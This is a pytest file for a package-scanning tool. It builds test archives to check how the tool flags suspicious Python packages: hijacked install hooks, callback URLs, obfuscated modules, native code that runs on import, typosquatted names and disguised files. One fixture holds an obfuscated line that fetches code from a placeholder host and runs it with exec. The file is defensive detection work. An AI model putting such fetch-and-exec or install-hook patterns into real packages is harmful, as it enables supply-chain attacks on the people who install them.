from __future__ import annotations

import io
import tarfile

import pytest

from depscan.artifacts.artifact import Budget
from depscan.artifacts.open import open_bytes
from depscan.facts.fact import Fact
from depscan.facts.read import read_artifact

HOOK = "from setuptools import setup\n\n\nclass Mine(install):\n    def run(self):\n        {}\n        install.run(self)\n\n\nsetup(cmdclass={{'install': Mine}})\n"
ELF = "\x7fELF\x02\x01\x01" + "\0" * 60


def facts(**files: str) -> list[Fact]:
    held = io.BytesIO()
    with tarfile.open(fileobj=held, mode="w") as archive:
        for path, text in {"PKG-INFO": "Name: acme\nVersion: 1.0\n", **files}.items():
            info = tarfile.TarInfo(f"acme-1.0/{path}")
            data = text.encode("latin-1")
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return read_artifact(open_bytes(held.getvalue(), "acme-1.0.tar", Budget()))[0].facts


def shapes(**files: str) -> list[tuple[str, ...]]:
    return [fact.values for fact in facts(**files) if fact.what == "package.shape"]


def test_a_package_of_constants_and_comments_is_empty() -> None:
    files = {"setup.py": "from setuptools import setup\nsetup()\n", "acme/__init__.py": '"""Text."""\nVERSION = "1"\n'}
    assert shapes(**files) == [("empty",)]


@pytest.mark.parametrize("code", ["def run():\n    return 1\n", "VALUE = open('x')\n", "import other\n", "broken(:\n"])
def test_code_an_import_and_what_cannot_be_parsed_are_not_empty(code: str) -> None:
    assert shapes(**{"setup.py": "setup()\n", "acme/__init__.py": code}) == []


def test_a_package_with_other_content_is_not_empty() -> None:
    assert shapes(**{"setup.py": "setup()\n", "acme/table.json": "{}"}) == []


def test_a_package_that_is_called_demo_is_no_demonstration() -> None:
    assert shapes(**{"setup.py": "setup()\n", "demo/__init__.py": "def run():\n    return 1\n"}) == []


def test_a_command_taken_over_to_print_is_idle_and_one_that_acts_is_not() -> None:
    assert shapes(**{"setup.py": HOOK.format("print('x')")}) == [("empty", "idle-hook")]
    assert shapes(**{"setup.py": HOOK.format("raise SystemExit('wrong package')")}) == [("empty",)]


def test_an_unused_network_import_arms_an_empty_package() -> None:
    setup = "import requests\nfrom setuptools import setup\n{}setup()\n"
    assert shapes(**{"setup.py": setup.format("# requests.get('https://docs.example.invalid')\n")}) == [
        ("empty", "armed")
    ]
    assert shapes(**{"setup.py": setup.format("requests.get('https://docs.example.invalid')\n")}) == [("empty",)]


def test_addresses_in_comments_and_declarations_of_an_empty_package_are_told() -> None:
    found = facts(**{"setup.py": "# get('https:/abc.oast.site/x')\nsetup(description='harmless PoC')\n"})
    told = {(fact.callee, fact.line, fact.values) for fact in found if fact.what == "literal"}
    assert told == {("comment", 1, ("https://abc.oast.site/",)), ("declared", 1, ("harmless poc",))}


def test_a_package_is_protected_when_nothing_of_it_can_be_read() -> None:
    body = "from pytransform import pyarmor_runtime\npyarmor_runtime()\n__pyarmor__(__name__, __file__, b'x')\n"
    assert shapes(**{"acme/core.py": body, "acme/__init__.py": "from acme import core\n"}) == [("protected",)]
    assert shapes(**{"acme/core.py": body, "acme/__init__.py": "def run():\n    return 1\n"}) == []


def test_compiled_modules_without_source_and_code_beside_them_are_native() -> None:
    start = {"acme/__init__.py": "from .core import begin\nbegin()\n", "acme/core.so": ELF}
    assert shapes(**start) == [("native", "started")]
    assert shapes(**{**start, "acme/__init__.py": "from .core import begin\n"}) == [("native",)]
    assert shapes(**{**start, "acme/core.c": "int x;\n"}) == []
    assert shapes(**{**start, "acme/__init__.py": "def run():\n    return 1\n"}) == []


def test_addresses_in_a_binary_are_literals() -> None:
    files = {"acme/core.so": f"{ELF}https://abc.oast.site/x\0", "acme/__init__.py": "from .core import begin\n"}
    assert [f.values for f in facts(**files) if f.callee == "native"] == [("https://abc.oast.site/x",)]


@pytest.mark.parametrize(
    ("required", "expected"),
    [
        ("acmecluod-openapi>=1", [("misspelt-requirement", "acmecluod_openapi", "acmecloud_openapi")]),
        ("acmecloud-openbpi", [("misspelt-requirement", "acmecloud_openbpi", "acmecloud_openapi")]),
        ("acmecloud-openapi", []),
        ("acmecloud-openapi2", []),
        ("another-package-name", []),
    ],
)
def test_a_requirement_one_slip_away_from_an_import_is_told(required: str, expected: list[tuple[str, ...]]) -> None:
    metadata = f"Name: acme\nVersion: 1.0\nRequires-Dist: {required}\n"
    found = shapes(**{"PKG-INFO": metadata, "acme/__init__.py": "from acmecloud_openapi import x\n"})
    assert found == expected


def test_a_slip_beside_the_right_requirement_is_none() -> None:
    metadata = "Name: acme\nVersion: 1.0\nRequires-Dist: acmecluod-openapi\nRequires-Dist: acmecloud-openapi\n"
    assert shapes(**{"PKG-INFO": metadata, "acme/__init__.py": "from acmecloud_openapi import x\n"}) == []


def test_bytecode_that_is_an_archive_is_disguised() -> None:
    found = facts(**{"acme/__init__.py": "VALUE = 1\n", "acme/__pycache__/net.pyc": ELF})
    assert [f.values[1] for f in found if f.what == "file.disguised"] == ["named .pyc, is elf"]


def test_names_are_looked_up_in_tables_of_builtins_with_get() -> None:
    code = 'table = globals()["__builtins__"]\ntable.get("exec")(table.get("__import__")("urllib.request").request.urlopen("https://a.example.invalid/").read())\n'
    found = {fact.what for fact in facts(**{"acme/__init__.py": code})}
    assert {"net.download", "code.eval"} <= found


def test_a_description_that_names_the_words_in_another_order_is_told() -> None:
    metadata = "Name: python-acme-sdk\nVersion: 1.0\n\n====\n{}\n====\n"
    swapped = [("swapped-name", "python-acme-sdk", "acme-python-sdk")]
    assert shapes(**{"PKG-INFO": metadata.format("acme-python-sdk")}) == swapped
    assert shapes(**{"PKG-INFO": metadata.format("Python_Acme.SDK")}) == []


def test_addresses_in_bytecode_count_only_where_its_source_is_missing() -> None:
    compiled = "\x01\x0c\r\n\0\0https://abc.oast.site/x\0"
    files = {"acme/__init__.py": "VALUE = 1\n", "acme/__pycache__/__init__.cpython-311.pyc": compiled}
    assert not [f for f in facts(**files) if f.callee == "bytecode"]
    found = facts(**{"acme/__init__.py": "VALUE = 1\n", "acme/core.pyc": compiled})
    assert [f.values for f in found if f.callee == "bytecode"] == [("https://abc.oast.site/x",)]
